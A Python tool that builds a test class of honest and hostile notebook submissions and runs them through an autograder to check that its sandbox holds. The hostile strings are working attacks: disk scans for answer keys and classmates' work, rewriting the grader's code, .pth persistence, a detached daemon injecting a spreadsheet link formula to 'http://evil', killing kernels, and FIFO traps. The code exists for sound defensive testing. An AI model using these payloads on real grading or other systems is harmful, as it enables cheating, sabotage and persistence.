#!/usr/bin/env python3
"""A class of honest and hostile submissions for the grader (issue 18), and a measured run over it.

    python tools/demo_class.py build FOLDER     # FOLDER/class/*.ipynb and FOLDER/expected.json
    python tools/demo_class.py run FOLDER       # build, grade it in ONE `python -m scaling_lib.grading
                                                # grade` run (default parallelism), measure, check
    python tools/demo_class.py run FOLDER --variants   # the same for a class with per-student numbers

The class: the reference notebook of every chapter (each must score full marks), honest variations
(UTF-8 BOM + CRLF, nbformat 3, a blank student copy, one absurd answer, a huge output, student copies
answered part of the way), and one submission per attack class of issue 18: reading the answer key,
reading classmates, a symlink to a classmate or to /dev/zero, named pipes in the folder and in place
of the runner's files, rewriting the grader's files, planting a ``.pth`` file, a background process
that edits the score sheet after the grader exits, killing other kernels, a memory bomb.

tests/test_grader_e2e.py builds its class with ``build_class`` (the attacks live here, once) and
checks every row; ``run`` is the demonstration a teacher can repeat: it prints the wall time, the
peak memory (the grader's own maximum RSS, the whole process tree's peak from a cgroup made for the
run when this is root, and a sampled sum of the tree's RSS), the cores used (CPU time / wall time),
and compares every row of the sheet with what that submission honestly earns.

The hostile submissions are written only when ``hostile=True``: never grade them without a working
bubblewrap sandbox (one of them replaces every file it can reach in /tmp and ~ with a named pipe).
"""
from __future__ import annotations

import copy
import hashlib
import json
import os
import shutil
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
REFS = sorted((ROOT / "exercises").glob("*.ipynb"))
REF1 = ROOT / "exercises" / "01_roofline.ipynb"


# ---- the attacks (run inside the submission's kernel) ------------------------------------------------

CH1_CHECKS = "".join(f'# check("1.{i}")\n' for i in (1, 2, 4))

KEY_READER = CH1_CHECKS + """
import os, glob, time
found = []
try:                                   # 1. the registry in the library the kernel imports
    from scaling_lib.exercises import get
    for i, v in [("1.2", "i_crit_ici"), ("1.3b", "t_dot"), ("1.4b", "fp8_intensity_rule"), ("1.1", "times")]:
        globals()[v] = get(i).reference()
    found.append("registry")
except Exception:
    pass
try:                                   # 2. a grader that can still judge: evaluate() with the key
    import scaling_lib.grading as G
    if hasattr(G, "evaluate"):
        found.append("grader")
except Exception:
    pass
for p in [%(refs)r, "/exercises", "/work", os.path.expanduser("~")]:   # 3. the reference notebooks
    for f in glob.glob(os.path.join(p, "**", "*.ipynb"), recursive=True)[:50]:
        try:
            text = open(f, encoding="utf-8").read()
        except Exception:
            continue
        if "BEGIN SOLUTION" in text:
            found.append(f)
            i_crit_ici = 10222.2
t0 = time.time()
for d, dirs, files in os.walk("/"):    # 4. anything on the disk that looks like the key
    if time.time() - t0 > 8 or d.startswith(("/proc", "/sys", "/dev")):
        dirs[:] = []
        continue
    for f in files:
        if f.endswith((".ipynb", ".py", ".json")):
            try:
                text = open(os.path.join(d, f), encoding="utf-8", errors="replace").read(2_000_000)
            except Exception:
                continue
            if "BEGIN SOLUTION" in text or "EXERCISES = [" in text or 'check("1.4b", fp8_intensity_rule)' in text:
                found.append(os.path.join(d, f))
                fp8_intensity_rule = 'B'
print("FOUND", found)
"""

CLASSMATE_READER = CH1_CHECKS + """
import os, json, time
t0, stolen = time.time(), []
for d, dirs, files in os.walk("/"):
    if time.time() - t0 > 8 or d.startswith(("/proc", "/sys", "/dev", "/usr")):
        dirs[:] = []
        continue
    for f in files:
        if f.endswith(".ipynb") or f.endswith(".json"):
            try:
                nb = json.load(open(os.path.join(d, f), encoding="utf-8"))
                code = [''.join(c["source"]) for c in nb["cells"] if c["cell_type"] == "code"]
            except Exception:
                continue
            if any('check("1.2"' in c for c in code):
                stolen.append(os.path.join(d, f))
                for c in code:
                    try:
                        exec(c.replace("check(", "print("), globals())
                    except Exception:
                        pass
print("STOLEN", stolen)
"""

REWRITER = CH1_CHECKS + """
import os, sys, glob
hit = []
import scaling_lib
targets = glob.glob(os.path.join(os.path.dirname(scaling_lib.__file__), "**", "*.py"), recursive=True)
targets += glob.glob(%(root)r + "/scaling_lib/**/*.py", recursive=True) + glob.glob("/grader/**/*.py", recursive=True)
for f in targets:
    try:
        with open(f, "a") as fh:
            fh.write("\\nraise SystemExit('pwned by a submission')\\n")
        hit.append(f)
    except Exception:
        pass
for f in glob.glob(%(root)r + "/exercises/*.ipynb"):
    try:
        open(f, "w").write("{}")
        hit.append(f)
    except Exception:
        pass
print("REWROTE", hit)
"""

PTH = CH1_CHECKS + """
import os, sys, site, sysconfig
payload = "import os; os.environ.get('GRADER_REPORT_FD') and os._exit(3)\\n"
planted = []
dirs = set(sys.path) | set(site.getsitepackages()) | {site.getusersitepackages(), sysconfig.get_paths()["purelib"]}
dirs |= set(%(sites)r)
for d in dirs:
    try:
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "zz_evil_%(tag)s.pth"), "w") as f:
            f.write(payload)
        planted.append(d)
    except Exception:
        pass
print("PLANTED", planted)
"""

DAEMON = CH1_CHECKS + """
import os, sys, time
code = '''
import os, time, glob
t0 = time.time()
while time.time() - t0 < 40:
    for p in glob.glob("/proc/[0-9]*/cwd") + [%(sheet)r, "/proc/1/cwd/scores.csv"]:
        for f in ([p] if p.endswith(".csv") else [os.path.join(p, "scores.csv"), os.path.join(p, "..", "scores.csv")]):
            try:
                with open(f, "a") as fh:
                    fh.write('=HYPERLINK("http://evil","x")\\\\n')
            except Exception:
                pass
    time.sleep(0.5)
'''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code, %(marker)r])
    os._exit(0)
time.sleep(1)
"""

KILLER = CH1_CHECKS + """
import os, signal, time
me, killed = os.getpid(), []
t0 = time.time()
while time.time() - t0 < 25:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) in (me, os.getppid()):
            continue
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
        except Exception:
            continue
        if b"kernel.py" in cmd or b"ipykernel" in cmd or b"runner.py" in cmd:
            try:
                os.kill(int(pid), signal.SIGKILL)
                killed.append(int(pid))
            except Exception:
                pass
    time.sleep(0.2)
print("KILLED", killed)
"""

FIFO_EVERYWHERE = """
import os, stat, glob
made = []
dirs = {os.getcwd(), os.path.dirname(os.getcwd()), "/tmp", os.path.expanduser("~")}
dirs |= {d for d in glob.glob("/tmp/*") if os.path.isdir(d)}
for d in dirs:
    for name in os.listdir(d) + ["runner.log", "report.json", "report.tmp", "job.json"]:
        p = os.path.join(d, name)
        try:
            if os.path.isdir(p):
                continue
            if os.path.exists(p):
                os.unlink(p)
            os.mkfifo(p)
            made.append(p)
        except Exception:
            pass
io_dir = "/tmp/grader-io"
if os.path.isdir(io_dir):                     # predict the next answer files: FIFOs there too
    names = sorted(os.listdir(io_dir))
    for n in names:
        stem = n.split(".")[0]
        if "-" in stem:
            nonce, k = stem.rsplit("-", 1)
            for j in range(int(k) + 1, int(k) + 40):
                try:
                    os.mkfifo(os.path.join(io_dir, f"{nonce}-{j}.json"))
                except Exception:
                    pass
print("FIFOS", len(made))
"""

BIG_OUTPUT = """
import os, sys
chunk = "x" * (1 << 20)
for _ in range(200):
    print(chunk)
for _ in range(100):
    os.write(1, b"y" * (1 << 20))
    os.write(2, b"z" * (1 << 20))
from IPython.display import display
display({"text/plain": "w" * (50 << 20)}, raw=True)
"""

DEV_ZERO = CH1_CHECKS + """
data = open("/dev/zero", "rb").read()
i_crit_ici = 10222.2
"""

HOSTILE = ["a1killer_01_roofline", "a2pth_01_roofline", "a3rewriter_01_roofline", "a4keyreader_01_roofline",
           "a5classmate_01_roofline", "a6daemon_01_roofline", "a7devzero_01_roofline"]


# ---- notebooks ---------------------------------------------------------------------------------------

def _nbformat():
    import nbformat
    return nbformat


def clean(nb):
    """A copy without outputs (what a student hands in after saving)."""
    nb = copy.deepcopy(nb)
    for c in nb.cells:
        if c.cell_type == "code":
            c.outputs, c.execution_count = [], None
    return nb


def tiny(cells):
    """A notebook of these code cells."""
    nbf = _nbformat()
    nb = nbf.v4.new_notebook()
    nb.metadata = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
    nb.cells = [nbf.v4.new_code_cell(c) for c in cells]
    return nb


def append(nb, code):
    """``nb`` (cleaned) with one more code cell at the end."""
    nb = clean(nb)
    cell = _nbformat().v4.new_code_cell(code)
    cell["id"] = f"extra{len(nb.cells)}"
    nb.cells.append(cell)
    return nb


def partial(ref: Path, answered: int):
    """A student who answered the first ``answered`` checked cells of ``ref`` (the reference
    solutions there) and left the rest as in the student copy; and the points that earns."""
    from scaling_lib.exercises import registry
    from scaling_lib.grading._batch import _CHECK
    from scaling_lib.grading._strip import _strip_code
    nb = clean(_nbformat().read(ref, as_version=4))
    reg, seen, earned = registry(), 0, 0.0
    for i, c in enumerate(nb.cells):
        if c.cell_type != "code":
            continue
        ids = [x for x in _CHECK.findall(c.source) if x in reg]
        if not ids:
            continue
        seen += 1
        if seen <= answered:
            earned += sum(reg[x].points for x in dict.fromkeys(ids))
        else:
            c.source = _strip_code(c.source, f"{ref.name}, cell {i}")
    return nb, earned


def chapter_max(chapter: int) -> float:
    from scaling_lib.exercises import for_chapter
    return float(sum(e.points for e in for_chapter(chapter)))


def site_dirs() -> list[str]:
    """Where a planted ``.pth`` file would run in every later Python of this installation."""
    import site
    import sysconfig
    dirs = set(site.getsitepackages() + [site.getusersitepackages(), sysconfig.get_paths()["purelib"]])
    return sorted(d for d in dirs if d and os.path.isdir(d))


def sources_hash() -> str:
    """The grader's files and the reference notebooks (an attack must leave them as they were)."""
    h = hashlib.sha256()
    for p in sorted((ROOT / "scaling_lib").rglob("*.py")) + REFS:
        h.update(p.read_bytes())
    return h.hexdigest()


def build_class(subs: Path, sheet: Path, marker: str, *, hostile: bool, partials: bool = True) -> dict:
    """Write the class into ``subs``; return {file name: what that submission honestly earns}.

    Each expectation is ``{"kind": ..., "total": points, "max": points}``; ``hostile`` rows earn 0
    (``fifolog`` answers chapter 1 honestly and attacks after: it keeps its marks), ``invalid`` rows
    (links, pipes) are refused with a reason and 0 points. ``sheet`` is where the daemon attack
    guesses the score sheet is; ``marker`` tags its process and the planted ``.pth`` file.
    """
    nbf = _nbformat()
    from scaling_lib import grading
    subs.mkdir(parents=True, exist_ok=True)
    ref1 = nbf.read(REF1, as_version=4)
    m1 = chapter_max(1)
    expect: dict = {}

    def write(name, nb, kind, total, chapter=1):
        nbf.write(nb, subs / f"{name}.ipynb")
        expect[f"{name}.ipynb"] = {"kind": kind, "total": total, "max": chapter_max(chapter)}

    # honest
    for p in REFS:
        ch = int(p.stem[:2])
        write(f"honest{p.stem[:2]}_{p.stem}", clean(nbf.read(p, as_version=4)), "reference", chapter_max(ch), ch)
    text = nbf.writes(clean(ref1))
    (subs / "bomcrlf_01_roofline.ipynb").write_bytes(b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode("utf-8"))
    expect["bomcrlf_01_roofline.ipynb"] = {"kind": "honest (BOM+CRLF)", "total": m1, "max": m1}
    (subs / "nbv3_01_roofline.ipynb").write_text(nbf.writes(nbf.convert(clean(ref1), 3), version=3),
                                                 encoding="utf-8")
    expect["nbv3_01_roofline.ipynb"] = {"kind": "honest (nbformat 3)", "total": m1, "max": m1}
    write("blank_01_roofline", grading.strip_notebook(ref1, REF1.name), "honest (blank copy)", 0.0)
    tiny_answer = clean(ref1)
    i = next(k for k, c in enumerate(tiny_answer.cells) if 'check("1.2"' in c.source)
    tiny_answer.cells[i].source = tiny_answer.cells[i].source.replace("check(", "i_crit_ici = 5e-324\ncheck(")
    from scaling_lib.exercises import get
    write("tinyanswer_01_roofline", tiny_answer, "honest (one answer 5e-324)", m1 - get("1.2").points)
    write("bigoutput_01_roofline", append(ref1, BIG_OUTPUT), "honest (400 MB of output)", m1)
    if partials:
        for ref, k in ((REF1, 7), (ROOT / "exercises" / "03_sharding.ipynb", 5),
                       (ROOT / "exercises" / "12_gpus.ipynb", 3)):
            nb, earned = partial(ref, k)
            write(f"partial{ref.stem[:2]}_{ref.stem}", nb, f"honest (first {k} answered)", earned,
                  int(ref.stem[:2]))
    # hostile, tiny (they answer nothing honestly: every mark they get is unearned)
    if hostile:
        write("fifolog_01_roofline", append(ref1, FIFO_EVERYWHERE), "hostile, honest answers (FIFOs)", m1)
        attacks = {"a1killer": KILLER, "a2pth": PTH % {"sites": site_dirs(), "tag": marker},
                   "a3rewriter": REWRITER % {"root": str(ROOT)},
                   "a4keyreader": KEY_READER % {"refs": str(ROOT / "exercises")},
                   "a5classmate": CLASSMATE_READER, "a6daemon": DAEMON % {"sheet": str(sheet), "marker": marker},
                   "a7devzero": DEV_ZERO}
        for name, code in attacks.items():
            write(f"{name}_01_roofline", tiny([code]), "hostile", 0.0)
    (subs / "a8symlink_01_roofline.ipynb").symlink_to(subs / "honest01_01_roofline.ipynb")
    (subs / "a9zero_01_roofline.ipynb").symlink_to("/dev/zero")
    os.mkfifo(subs / "b0fifo_01_roofline.ipynb")
    for name in ("a8symlink_01_roofline", "a9zero_01_roofline", "b0fifo_01_roofline"):
        expect[f"{name}.ipynb"] = {"kind": "invalid (link or pipe)", "total": 0.0, "max": m1}
    return expect


VARIANT_SECRET = b"demo-class-variant-secret-0123456789"


def build_variant_class(subs: Path, folder: Path, students=("s01", "s02", "s03")) -> dict:
    """A class with per-student numbers: every chapter whose exercises declare ``params``, each
    student's own copy with the reference solutions run on that student's numbers (full marks), and
    per chapter one copy handed in under another student's id (it earns only the items where the
    classmate's answer also passes: choice letters everybody shares, items without numbers, and
    numbers both happened to draw). Writes ``folder/course.key`` and ``folder/roster.csv``.
    Returns {file name: expectation} like ``build_class``."""
    from scaling_lib import grading
    from scaling_lib.exercises import chapter_params, draw, for_chapter
    from scaling_lib.grading import evaluate
    nbf = _nbformat()
    (folder / "course.key").write_bytes(VARIANT_SECRET)
    hand = folder / "variants"
    chapters = [int(p.stem[:2]) for p in REFS if chapter_params(int(p.stem[:2]))]
    grading.make_variants(VARIANT_SECRET, list(students), ROOT / "exercises", hand,
                          names=[str(c) for c in chapters], with_solutions=True)
    subs.mkdir(parents=True, exist_ok=True)
    expect = {}
    for ch in chapters:
        ref = next(p for p in REFS if int(p.stem[:2]) == ch)
        values = {s: draw(chapter_params(ch), VARIANT_SECRET, s, ch) for s in students}
        for s in students:
            name = f"{s}_{ref.stem}.ipynb"
            shutil.copy(hand / s / ref.name, subs / name)
            expect[name] = {"kind": "own variant", "total": chapter_max(ch), "max": chapter_max(ch)}
        # students[1] hands in students[0]'s work
        thief, victim = students[1], students[0]
        name = f"copy_by_{thief}_{ref.stem}.ipynb"
        shutil.copy(hand / victim / ref.name, subs / name)
        earned = sum(e.points for e in for_chapter(ch)
                     if evaluate(e, e.reference(values[victim]), values=values[thief]).correct)
        expect[name] = {"kind": "copied from a classmate", "total": float(earned), "max": chapter_max(ch)}
    # the roster names the students; each file is theirs by the id in its name (s01_…, copy_by_s02_…)
    (folder / "roster.csv").write_text("student\n" + "".join(f"{s}\n" for s in students), encoding="utf-8")
    return expect


def aftermath(marker: str, sheet: Path, sheet_bytes: bytes, hash_before: str) -> dict:
    """What the attacks left behind after the grader exited (call a few seconds after it)."""
    alive = []
    for pid in os.listdir("/proc"):
        try:
            if marker.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                alive.append(pid)
        except OSError:
            pass
    planted = [str(p) for d in site_dirs() for p in Path(d).glob(f"zz_evil_{marker}.pth")]
    for p in planted:  # never leave one behind
        os.unlink(p)
    return {"alive": alive, "planted": planted, "sheet_same": sheet.read_bytes() == sheet_bytes,
            "sources_same": sources_hash() == hash_before}


def compare(expect: dict, rows: list) -> list[str]:
    """Rows of scores.json that differ from what each submission honestly earns (empty: none)."""
    got = {Path(r["file"]).name: r for r in rows}
    bad = [f"no row for {n}" for n in expect if n not in got]
    for n, e in expect.items():
        r = got.get(n)
        if r is not None and (abs(r["total"] - e["total"]) > 1e-9 or abs(r["max"] - e["max"]) > 1e-9):
            wrong = {i: x["message"] for i, x in r["exercises"].items() if x["correct"] != (e["kind"] != "hostile")}
            bad.append(f"{n} ({e['kind']}): {r['total']:g}/{r['max']:g}, expected {e['total']:g}/{e['max']:g} "
                       f"[{r['status']}; {'; '.join(r['notes'])[:300]}] {json.dumps(wrong, ensure_ascii=False)[:600]}")
    bad += [f"unexpected row {n}" for n in got if n not in expect]
    return bad


# ---- the measured run -----------------------------------------------------------------------------

def _run_cgroup() -> dict:
    """A memory + cpuacct cgroup (v1, or v2) for the whole run, when this is root; {} otherwise."""
    if os.geteuid() != 0:
        return {}
    name = f"demo-class-{os.getpid()}"
    made = {}
    try:
        lines = Path("/proc/self/cgroup").read_text().splitlines()
    except OSError:
        return {}
    v1 = {}
    for line in lines:
        _, ctrls, path = line.split(":", 2)
        for c in ctrls.split(","):
            v1[c] = path
    try:
        if Path("/sys/fs/cgroup/cgroup.controllers").exists():
            d = Path("/sys/fs/cgroup") / v1.get("", "/").lstrip("/")
            d = d.parent / name
            d.mkdir()
            made["v2"] = d
        else:
            for c in ("memory", "cpuacct"):
                if c in v1 and (Path("/sys/fs/cgroup") / c).is_dir():
                    d = Path("/sys/fs/cgroup") / c / v1[c].lstrip("/") / name
                    d.mkdir()
                    made[c] = d
    except OSError:
        pass
    return made


def _cgroup_numbers(cg: dict) -> dict:
    out = {}
    try:
        if "v2" in cg:
            out["tree_peak_mb"] = int((cg["v2"] / "memory.peak").read_text()) / 2**20
            for line in (cg["v2"] / "cpu.stat").read_text().splitlines():
                if line.startswith("usage_usec "):
                    out["tree_cpu_s"] = int(line.split()[1]) / 1e6
        if "memory" in cg:
            out["tree_peak_mb"] = int((cg["memory"] / "memory.max_usage_in_bytes").read_text()) / 2**20
        if "cpuacct" in cg:
            out["tree_cpu_s"] = int((cg["cpuacct"] / "cpuacct.usage").read_text()) / 1e9
    except (OSError, ValueError):
        pass
    return out


def _tree_rss_mb(root_pid: int) -> float:
    """Sum of the resident memory of ``root_pid`` and all its descendants (from /proc)."""
    kids: dict = {}
    rss: dict = {}
    for n in os.listdir("/proc"):
        if not n.isdigit():
            continue
        try:
            with open(f"/proc/{n}/stat", "rb") as f:
                st = f.read().rsplit(b")", 1)[1].split()
            kids.setdefault(int(st[1]), []).append(int(n))
            rss[int(n)] = int(st[21]) * os.sysconf("SC_PAGE_SIZE")
        except (OSError, IndexError, ValueError):
            pass
    total, todo = 0, [root_pid]
    while todo:
        p = todo.pop()
        total += rss.get(p, 0)
        todo += kids.get(p, [])
    return total / 2**20


def run(folder: Path, extra_args=(), variants: bool = False) -> dict:
    folder = folder.resolve()
    if folder.exists():
        shutil.rmtree(folder)
    subs, book = folder / "class", folder / "gradebook"
    sheet = book / "scores.csv"
    sys.path.insert(0, str(ROOT))
    from scaling_lib.grading import _sandbox
    iso = _sandbox.detect("auto")
    why = iso.reason if not iso.strong else None
    if why is None:
        sb = _sandbox.Sandbox(iso, memory_mb=2048, timeout_notebook=60)
        try:
            why = sb.self_test()
        finally:
            sb.close()
    if why is not None:
        print(f"no working bubblewrap sandbox ({why}): the hostile submissions are left out", flush=True)
    marker = "EVIL_DAEMON_" + uuid.uuid4().hex[:8]
    if variants:
        folder.mkdir(parents=True)
        expect = build_variant_class(subs, folder)
        extra_args = ["--secret-file", str(folder / "course.key"), "--roster", str(folder / "roster.csv"),
                      *extra_args]
    else:
        expect = build_class(subs, sheet, marker, hostile=why is None)
    (folder / "expected.json").write_text(json.dumps(expect, ensure_ascii=False, indent=1), encoding="utf-8")
    before = sources_hash()
    cmd = [sys.executable, "-m", "scaling_lib.grading", "grade", str(subs), "--out", str(sheet), *extra_args]
    timev = shutil.which("time") or ("/usr/bin/time" if Path("/usr/bin/time").exists() else None)
    if timev:
        cmd = [timev, "-v", "-o", str(folder / "time-v.txt")] + cmd
    cg = _run_cgroup()
    procs = [str(d / "cgroup.procs") for d in cg.values()]

    def join_cgroup():
        for p in procs:
            with open(p, "w") as f:
                f.write(str(os.getpid()))

    load0 = Path("/proc/loadavg").read_text().strip()
    env = dict(os.environ, PYTHONPATH=os.pathsep.join([str(ROOT)] + [p for p in os.environ.get("PYTHONPATH", "").split(os.pathsep) if p]))
    print("$", " ".join(cmd), flush=True)
    t0 = time.monotonic()
    with open(folder / "grader-stdout.txt", "wb") as so, open(folder / "grader-stderr.txt", "wb") as se:
        proc = subprocess.Popen(cmd, stdout=so, stderr=se, cwd=folder, env=env, preexec_fn=join_cgroup)
        peak, loads = [0.0], []
        stop = threading.Event()

        def sample():
            while not stop.wait(0.5):
                peak[0] = max(peak[0], _tree_rss_mb(proc.pid))
                if len(loads) < 2000:
                    loads.append(Path("/proc/loadavg").read_text().split()[0])

        th = threading.Thread(target=sample, daemon=True)
        th.start()
        rc = proc.wait()
        wall = time.monotonic() - t0
        stop.set()
        th.join()
    load1 = Path("/proc/loadavg").read_text().strip()
    numbers = _cgroup_numbers(cg)
    for d in cg.values():
        try:
            d.rmdir()
        except OSError:
            pass
    sheet_bytes = sheet.read_bytes() if sheet.exists() else b""
    time.sleep(4)  # a daemon that survived would write to the sheet now
    after = aftermath(marker, sheet, sheet_bytes, before) if sheet.exists() else {}
    tv = {}
    if timev and (folder / "time-v.txt").exists():
        for line in (folder / "time-v.txt").read_text().splitlines():
            k, _, v = line.strip().rpartition(": ")
            tv[k] = v
    rows = json.loads(sheet.with_suffix(".json").read_text(encoding="utf-8"))["submissions"] if sheet.with_suffix(".json").exists() else []
    import csv
    import io
    csv_rows = list(csv.reader(io.StringIO(sheet_bytes.decode("utf-8-sig")))) if sheet_bytes else []
    user_sys = float(tv.get("User time (seconds)", 0)) + float(tv.get("System time (seconds)", 0))
    report = {
        "command": " ".join(cmd), "returncode": rc, "wall_s": round(wall, 1),
        "grader_max_rss_mb": round(int(tv.get("Maximum resident set size (kbytes)", 0)) / 1024, 1),
        "user_sys_cpu_s": round(user_sys, 1),
        "tree_rss_peak_sampled_mb": round(peak[0], 1),
        **{k: round(v, 1) for k, v in numbers.items()},
        "cores_used": round(numbers.get("tree_cpu_s", user_sys) / wall, 2),
        "loadavg_before": load0, "loadavg_after": load1,
        "loadavg_1min_max_during": max((float(x) for x in loads), default=None),
        "nproc": os.cpu_count(), "isolation": iso.kind if why is None else f"process ({why})",
        "submissions": len(expect), "csv_rows": len(csv_rows) - 1,
        "feedback_files": len(list((book / "feedback").glob("*.md"))) if (book / "feedback").is_dir() else 0,
        "aftermath": after, "mismatches": compare(expect, rows),
        "rows": [{"file": Path(r["file"]).name, "kind": expect.get(Path(r["file"]).name, {}).get("kind"),
                  "total": r["total"], "max": r["max"], "expected": expect.get(Path(r["file"]).name, {}).get("total"),
                  "status": r["status"], "seconds": r["seconds"], "peak_mb": r["peak_mb"], "cpu_s": r["cpu_s"],
                  "notes": r["notes"]} for r in rows],
    }
    (folder / "report.json").write_text(json.dumps(report, ensure_ascii=False, indent=1), encoding="utf-8")
    return report


def main(argv=None) -> int:
    import argparse
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("cmd", choices=("build", "run"))
    ap.add_argument("folder", type=Path)
    ap.add_argument("--no-hostile", action="store_true", help="build: honest submissions only")
    ap.add_argument("--variants", action="store_true",
                    help="run: a class with per-student numbers (own copies and copied ones) instead")
    ap.add_argument("grade_args", nargs="*", help="run: more arguments for `grade` (after --)")
    a = ap.parse_args(argv)
    sys.path.insert(0, str(ROOT))
    if a.cmd == "build":
        a.folder.mkdir(parents=True, exist_ok=True)
        expect = build_class(a.folder / "class", a.folder / "gradebook" / "scores.csv",
                             "EVIL_DAEMON_" + uuid.uuid4().hex[:8], hostile=not a.no_hostile)
        (a.folder / "expected.json").write_text(json.dumps(expect, ensure_ascii=False, indent=1), encoding="utf-8")
        print(f"{len(expect)} submissions in {a.folder / 'class'}")
        return 0
    rep = run(a.folder, a.grade_args, variants=a.variants)
    short = {k: v for k, v in rep.items() if k != "rows"}
    print(json.dumps(short, ensure_ascii=False, indent=1))
    by_kind: dict = {}
    for r in rep["rows"]:
        by_kind.setdefault(r["kind"], []).append(f"{r['total']:g}/{r['max']:g}")
    for k, v in by_kind.items():
        print(f"{k}: {', '.join(v)}")
    ok = rep["returncode"] == 0 and not rep["mismatches"] and rep["csv_rows"] == rep["submissions"] and all(
        [rep["aftermath"].get("sources_same"), rep["aftermath"].get("sheet_same"),
         not rep["aftermath"].get("alive"), not rep["aftermath"].get("planted")])
    print("OK: every row written, no unearned mark, no honest mark lost" if ok else "FAILED")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
